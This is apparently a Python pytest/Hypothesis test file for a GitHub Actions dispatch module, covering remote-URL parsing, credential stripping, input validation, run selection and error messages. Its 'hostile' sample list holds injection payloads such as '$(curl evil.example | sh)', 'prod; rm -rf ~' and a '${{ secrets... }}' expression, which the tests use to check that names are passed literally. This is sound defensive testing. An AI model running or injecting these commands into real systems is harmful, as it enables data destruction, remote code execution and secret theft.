"""The pure decisions behind `--via github`: remotes, inputs, our run, outcomes, errors."""

from __future__ import annotations

import json
from datetime import datetime, timedelta, timezone

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal_core.errors import PlanError
from portal_core.github import (
    MAX_INPUTS,
    MAX_INPUTS_CHARS,
    GitHubError,
    RepoRef,
    api_url_for,
    check_api_url,
    check_inputs,
    decode_flows,
    deploy_inputs,
    describe_http_error,
    encode_flows,
    inputs_size,
    parse_remote_url,
    parse_repo_override,
    pick_dispatched_run,
    promote_inputs,
    redact,
    run_outcome,
    run_page_url,
    strip_credentials,
    web_url_for,
    workflow_page_url,
)

# ------------------------------------------------------------------ strategies

owners = st.from_regex(r"[A-Za-z0-9](?:[A-Za-z0-9-]{0,20}[A-Za-z0-9])?", fullmatch=True)
repo_names = st.from_regex(r"[A-Za-z0-9._-]{1,30}", fullmatch=True).filter(
    lambda n: n not in {".", ".."} and not n.endswith(".git")
)
_label = r"[a-z](?:[a-z0-9-]{0,8}[a-z0-9])?"
enterprise_hosts = st.from_regex(rf"{_label}(?:\.{_label}){{1,3}}", fullmatch=True).filter(
    lambda h: h not in {"github.com", "ssh.github.com", "www.github.com"}
)
hosts = st.one_of(st.just("github.com"), enterprise_hosts)

#: Text as users type it into names: anything but a leading `-`, NUL or blank.
literal_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    min_size=1,
    max_size=40,
).filter(lambda s: s.strip() != "" and not s.startswith("-"))
hostile = st.sampled_from(
    [
        "prod; rm -rf ~",
        "$(curl evil.example | sh)",
        "`id`",
        "a'b\"c",
        "hello world",
        "etl, nightly",
        "naïve ☃ 数据",
        '${{ secrets.PREFECT_API_KEY }}',
        "x\ny",
        "a=b",
    ]
)
names = st.one_of(hostile, literal_text)

# ------------------------------------------------------------------ remotes

REMOTE_FORMS = (
    "https://{host}/{owner}/{name}{suffix}",
    "https://{host}/{owner}/{name}{suffix}/",
    "http://{host}/{owner}/{name}{suffix}",
    "git@{host}:{owner}/{name}{suffix}",
    "ssh://git@{host}/{owner}/{name}{suffix}",
    "ssh://git@{host}:2222/{owner}/{name}{suffix}",
    "git://{host}/{owner}/{name}{suffix}",
    "https://x-access-token:s3cr3t@{host}/{owner}/{name}{suffix}",
)


@given(owners, repo_names, hosts, st.sampled_from(REMOTE_FORMS), st.sampled_from(["", ".git"]))
def test_every_remote_form_parses_to_its_repository(owner, name, host, form, suffix):
    url = form.format(host=host, owner=owner, name=name, suffix=suffix)
    assert parse_remote_url(url) == RepoRef(owner=owner, name=name, host=host)


@given(st.text(max_size=80))
def test_parsing_any_text_never_raises(text):
    result = parse_remote_url(text)
    assert result is None or isinstance(result, RepoRef)


@given(owners, repo_names)
def test_override_owner_slash_name(owner, name):
    assert parse_repo_override(f"{owner}/{name}") == RepoRef(owner, name)


@pytest.mark.parametrize(
    "url",
    [
        "",
        "/srv/git/flows.git",
        "../flows",
        "file:///srv/git/o/r.git",
        "https://github.com/octo-org",
        "https://github.com/octo-org/flows/tree/main",
        "https://gitlab.example.com/group/sub/repo.git",
        "C:/work/flows",
        "https://github.com/octo-org/flows?x=1",
        "https://github.com/-bad/flows",
        "https://github.com/o/..",
        "git@github.com:o r/x.git",
    ],
)
def test_non_github_shapes_are_none(url):
    assert parse_remote_url(url) is None


def test_ssh_aliases_and_ssh_over_https_port_mean_github_com():
    assert parse_remote_url("github-work:o/r.git") == RepoRef("o", "r")
    assert parse_remote_url("ssh://git@ssh.github.com:443/o/r.git") == RepoRef("o", "r")
    assert parse_remote_url("git@GHE.Corp.example:o/r") == RepoRef("o", "r", "ghe.corp.example")


def test_credentials_in_a_remote_never_reach_the_result():
    ref = parse_remote_url("https://user:ghp_SECRET@github.com/o/r.git")
    assert ref == RepoRef("o", "r")
    assert "ghp_SECRET" not in repr(ref)
    assert strip_credentials("https://user:ghp_SECRET@ghe.example/o/r") == "https://ghe.example/o/r"
    assert strip_credentials("https://github.com/o/r") == "https://github.com/o/r"


def test_api_and_web_urls_follow_the_host():
    assert api_url_for(RepoRef("o", "r")) == "https://api.github.com"
    assert api_url_for(RepoRef("o", "r", "ghe.example")) == "https://ghe.example/api/v3"
    assert web_url_for("https://api.github.com") == "https://github.com"
    assert web_url_for("https://ghe.example/api/v3/") == "https://ghe.example"
    assert web_url_for("http://127.0.0.1:8123") == "http://127.0.0.1:8123"
    assert (
        workflow_page_url("https://api.github.com", RepoRef("o", "r"), "deploy.yml")
        == "https://github.com/o/r/actions/workflows/deploy.yml"
    )
    assert run_page_url("https://api.github.com", RepoRef("o", "r"), 7) == (
        "https://github.com/o/r/actions/runs/7"
    )


@pytest.mark.parametrize("bad", ["", "api.github.com", "ftp://x", "https://", "https://h:notaport"])
def test_bad_api_urls_are_one_clear_error(bad):
    with pytest.raises(GitHubError, match="GITHUB_API_URL"):
        check_api_url(bad)
    assert check_api_url("https://ghe.example/api/v3/") == "https://ghe.example/api/v3"


# ------------------------------------------------------------------ inputs


@given(st.lists(names, min_size=1, max_size=8), names, names)
def test_deploy_inputs_pass_every_value_literally(flows, env, ref):
    inputs = deploy_inputs(flows, env, ref, {})
    assert set(inputs) == {"flows", "env"}
    assert all(isinstance(v, str) for v in inputs.values())
    assert json.loads(inputs["flows"]) == flows
    assert decode_flows(inputs["flows"]) == flows
    assert inputs["env"] == env


@given(
    st.lists(names, max_size=8),
    names,
    names,
    st.one_of(st.none(), names),
    st.booleans(),
)
def test_promote_inputs_pass_every_value_literally(flows, src, dst, branch, force):
    inputs = promote_inputs(flows, src, dst, branch, force)
    assert set(inputs) == {"flows", "src", "dst", "branch", "force"}
    assert json.loads(inputs["flows"]) == flows
    assert (inputs["src"], inputs["dst"]) == (src, dst)
    assert inputs["branch"] == (branch or "")
    assert inputs["force"] == ("true" if force else "false")


@given(st.lists(names, max_size=10))
def test_flow_list_encoding_round_trips(flows):
    assert decode_flows(encode_flows(flows)) == flows


def test_extra_inputs_are_added_but_may_not_shadow_standard_ones():
    assert deploy_inputs(["a"], "dev", "main", {"dry_run": "true"})["dry_run"] == "true"
    with pytest.raises(PlanError, match="replace a standard input"):
        deploy_inputs(["a"], "dev", "main", {"env": "prod"})


def test_more_than_25_inputs_are_refused_before_sending():
    extra = {f"x{i}": "1" for i in range(MAX_INPUTS - 2)}
    assert len(deploy_inputs(["a"], "dev", "main", extra)) == MAX_INPUTS
    extra[f"x{MAX_INPUTS}"] = "1"
    with pytest.raises(PlanError, match="at most 25"):
        deploy_inputs(["a"], "dev", "main", extra)


def test_inputs_over_65535_characters_are_refused_at_the_exact_limit():
    base = {"flows": "", "env": "dev"}
    filler = MAX_INPUTS_CHARS - inputs_size(base)
    at_limit = {**base, "flows": "x" * filler}
    assert inputs_size(at_limit) == MAX_INPUTS_CHARS
    assert check_inputs(at_limit) == at_limit
    with pytest.raises(PlanError, match="65,535"):
        check_inputs({**base, "flows": "x" * (filler + 1)})
    many = [f"flow_{i:05d}" for i in range(6000)]
    with pytest.raises(PlanError, match="characters"):
        deploy_inputs(many, "dev", "main")


@pytest.mark.parametrize(
    ("flows", "env", "ref", "fragment"),
    [
        ([], "dev", "main", "no flow given"),
        (["a"], "", "main", "environment must not be empty"),
        (["a"], "   ", "main", "environment must not be empty"),
        (["a"], "dev", "", "ref must not be empty"),
        (["--force"], "dev", "main", "starts with '-'"),
        (["a"], "-x", "main", "starts with '-'"),
        (["a\x00b"], "dev", "main", "NUL"),
        ([""], "dev", "main", "flow name must not be empty"),
    ],
)
def test_unusable_deploy_values_fail_the_plan(flows, env, ref, fragment):
    with pytest.raises(PlanError, match=fragment):
        deploy_inputs(flows, env, ref)


def test_non_text_input_values_are_refused():
    with pytest.raises(PlanError, match="must be text"):
        check_inputs({"flows": "[]", "force": True})  # type: ignore[dict-item]


@pytest.mark.parametrize("text", ["{", '{"a": 1}', "[1, 2]", '"all"', '["-x"]', '[""]'])
def test_decode_flows_is_strict(text):
    with pytest.raises(PlanError):
        decode_flows(text)


def test_decode_flows_treats_blank_as_no_flows():
    assert decode_flows("") == []
    assert decode_flows("[]") == []


# ------------------------------------------------------------------ which run is ours

T0 = datetime(2025, 3, 1, 12, 0, 0, tzinfo=timezone.utc)


def at(seconds: float) -> str:
    return (T0 + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%SZ")


def run(run_id, seconds, *, event="workflow_dispatch", branch="main", actor="octocat"):
    return {
        "id": run_id,
        "event": event,
        "head_branch": branch,
        "created_at": at(seconds),
        "actor": {"login": actor},
        "status": "queued",
    }


def test_picks_our_run_not_the_newest():
    ours = run(10, 1)
    runs = [
        run(14, 40, event="push"),  # newest overall, wrong event
        run(13, 30, branch="other"),  # newer dispatch on another branch
        run(12, 20),  # someone else's dispatch, after ours
        ours,
        run(9, 0.5),  # existed before we dispatched (known id)
        run(8, -600),  # an old dispatch nobody listed (more than the skew earlier)
    ]
    picked = pick_dispatched_run(runs, T0.isoformat(), "main", None, known_ids={9})
    assert picked == ours


def test_known_ids_are_never_picked_even_if_recent():
    runs = [run(5, 1), run(6, 2)]
    assert pick_dispatched_run(runs, T0.isoformat(), "main", known_ids={5})["id"] == 6
    assert pick_dispatched_run(runs, T0.isoformat(), "main", known_ids={5, 6}) is None


def test_clock_skew_allowance():
    runs = [run(1, -3)]
    assert pick_dispatched_run(runs, at(0), "main")["id"] == 1
    assert pick_dispatched_run(runs, at(0), "main", clock_skew_seconds=1) is None


def test_actor_narrows_when_known():
    runs = [run(1, 1, actor="someone-else"), run(2, 2, actor="octocat")]
    assert pick_dispatched_run(runs, at(0), "main", "octocat")["id"] == 2
    assert pick_dispatched_run(runs, at(0), "main", None)["id"] == 1


def test_malformed_runs_are_skipped_not_fatal():
    runs = [{"id": "x"}, {"id": 3, "event": "workflow_dispatch", "head_branch": "main"},
            {**run(4, 1), "created_at": "yesterday"}, run(5, 2)]
    assert pick_dispatched_run(runs, at(0), "main")["id"] == 5


run_records = st.builds(
    run,
    st.integers(1, 60),
    st.integers(-120, 120),
    event=st.sampled_from(["workflow_dispatch", "push", "schedule"]),
    branch=st.sampled_from(["main", "feature/x"]),
    actor=st.sampled_from(["octocat", "other"]),
)


@given(
    st.lists(run_records, max_size=12),
    st.frozensets(st.integers(1, 60), max_size=10),
    st.one_of(st.none(), st.just("octocat")),
)
def test_the_pick_satisfies_every_rule_and_is_the_earliest(runs, known, actor):
    picked = pick_dispatched_run(runs, at(0), "main", actor, known_ids=known, clock_skew_seconds=5)

    def eligible(r):
        return (
            r["id"] not in known
            and r["event"] == "workflow_dispatch"
            and r["head_branch"] == "main"
            and (actor is None or r["actor"]["login"] == actor)
            and r["created_at"] >= at(-5)
        )

    candidates = [r for r in runs if eligible(r)]
    if not candidates:
        assert picked is None
        return
    assert picked is not None and eligible(picked)
    assert (picked["created_at"], picked["id"]) == min((r["created_at"], r["id"]) for r in candidates)


# ------------------------------------------------------------------ outcome


@pytest.mark.parametrize(
    ("status", "conclusion", "expected"),
    [
        ("queued", None, (False, False, "queued")),
        ("in_progress", None, (False, False, "in progress")),
        ("waiting", None, (False, False, "waiting for approval (environment protection rules)")),
        ("completed", "success", (True, True, "completed: success")),
        ("completed", "failure", (True, False, "completed: failure")),
        ("completed", "cancelled", (True, False, "completed: cancelled")),
        ("completed", "timed_out", (True, False, "completed: timed out")),
        ("completed", None, (True, False, "completed: unknown")),
    ],
)
def test_run_outcome(status, conclusion, expected):
    assert run_outcome({"status": status, "conclusion": conclusion}) == expected


# ------------------------------------------------------------------ errors

REPO = RepoRef("octo-org", "flows")


@pytest.mark.parametrize(
    ("status", "message", "expected"),
    [
        (
            401,
            "Bad credentials",
            "GitHub rejected the token (401): set GITHUB_TOKEN or GH_TOKEN to a token with "
            "actions:write",
        ),
        (404, "Not Found", "workflow deploy.yml not found in octo-org/flows (404)"),
        (
            422,
            'Unexpected inputs provided: ["x"]',
            'GitHub refused the inputs (422): Unexpected inputs provided: ["x"]',
        ),
        (500, "boom", "GitHub is unavailable (500)"),
        (503, "", "GitHub is unavailable (503)"),
        (403, "API rate limit exceeded for 1.2.3.4", "GitHub rate limit exceeded (403)"),
        (403, "Resource not accessible by integration", "needs actions:write"),
        (429, "", "GitHub rate limit exceeded (429)"),
        (418, "teapot", "GitHub answered 418"),
        (None, "ConnectError: [Errno 111] Connection refused", "cannot reach GitHub at http://127.0.0.1:9"),
    ],
)
def test_each_http_failure_is_one_clear_line(status, message, expected):
    line = describe_http_error(
        status, message + "\nsecond line", action="dispatch the workflow", repo=REPO,
        workflow="deploy.yml", api_url="http://user:pw@127.0.0.1:9",
    )
    assert expected in line
    assert "\n" not in line
    assert "pw@" not in line


def test_missing_run_names_the_run():
    line = describe_http_error(404, "Not Found", action="read", repo=REPO, run_id=42)
    assert line == "workflow run 42 not found in octo-org/flows (404)"


def test_redact_removes_every_occurrence():
    assert redact("a tok b tok", ["tok", ""]) == "a *** b ***"
